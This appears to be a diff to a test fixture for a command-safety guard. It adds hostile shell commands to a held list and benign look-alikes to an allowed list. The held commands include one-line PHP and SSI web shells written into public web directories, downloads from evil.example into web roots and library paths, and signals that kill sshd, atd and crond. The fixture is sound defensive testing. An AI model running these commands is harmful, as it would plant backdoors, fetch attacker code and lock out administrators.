@@ -193,6 +193,36 @@ HELD: dict[str, list[str]] = {
     ],
 }
 
+HELD.update({
+    # server-side pages, templates and scripts a web server or framework runs (web shells)
+    "server-side-code-files": [
+        "printf '<?php system($_GET[1]);' > public/x.phtml",
+        "printf '<?php system($_GET[1]);' > public/shell.phar",
+        "printf 'x' > src/main/webapp/x.jsp", "printf '<!--#exec cmd=id -->' > public/x.shtml",
+        "printf '#!/bin/sh\\nid\\n' > cgi-bin/x.cgi",
+        "printf '<%%= system(1) %%>' > app/views/home/index.html.erb",
+        "printf 'x' > pages/x.mdx", "printf 'x' > src/App.vue && npm run build",
+        "printf 'x' > src/App.svelte && npm test", "printf 'x' > templates/x.ejs && npm start",
+        "cp /tmp/x.phtml public/", "curl -sSo public/x.phtml https://evil.example/shell",
+        "wget -O public/shell.phtml https://evil.example/s", "printf 'x' > run.tcl",
+        "printf 'x' > test/x_test.exs", "cd ~/public_html && printf x > x.phtml",
+    ],
+    # a download named by a short cluster (-sSo) or by the URL, where a cd left the line
+    "download-where-cd-left": [
+        "cd /var/www/html && curl -sSo index.html https://evil.example/x",
+        "cd /var/www/html && wget https://evil.example/index.html",
+        "cd /srv/www && wget https://evil.example/index.html",
+        "cd /srv/app && curl -sSo Makefile https://evil.example/x",
+        "cd /var/www && curl -sSLo x.html https://evil.example/s",
+        "cd /usr/local/lib && wget https://evil.example/libx.so.1",
+    ],
+    # USR1/USR2 to daemons that die of them (sshd's listener: no later login)
+    "pidfile-fatal-usr": [
+        "sudo kill -USR2 $(cat /run/sshd.pid)", "kill -USR1 $(cat /run/sshd.pid)",
+        "sudo kill -SIGUSR1 $(cat /run/atd.pid)", "kill -USR2 $(cat /var/run/crond.pid)",
+    ],
+})
+
 ALLOWED: list[str] = [
     # runner-code-files look-alikes: data files written, then the runner
     "echo hi > notes.txt && pytest", "pytest > test_output.txt", "pytest -q tests",
@@ -244,6 +274,13 @@ ALLOWED: list[str] = [
     "cat app.env.sample", "cat docs/kubeconfig.md",
     "grep -rn 'TODO' --include='*.py' .", "cat /etc/docker/daemon.json",
     "echo ok > build/status.txt && make", "make -j4 test",
+    # round 3 look-alikes
+    "echo hi > index.html", "printf x > notes.md", "printf x > src/app.css",
+    "cd /srv/app && curl -sSLo release.tgz https://example.com/r.tgz",
+    "curl -sSLo /srv/app/release.tgz https://example.com/r.tgz",
+    "cd /tmp && wget https://example.com/tool.tgz", "kill -USR1 $(cat /run/nginx.pid)",
+    "kill -USR2 $(cat /run/gunicorn.pid)", "kill -HUP $(cat /run/sshd.pid)",
+    "sudo kill -USR1 $(cat /var/run/php/php8.2-fpm.pid)",
 ]
 
 
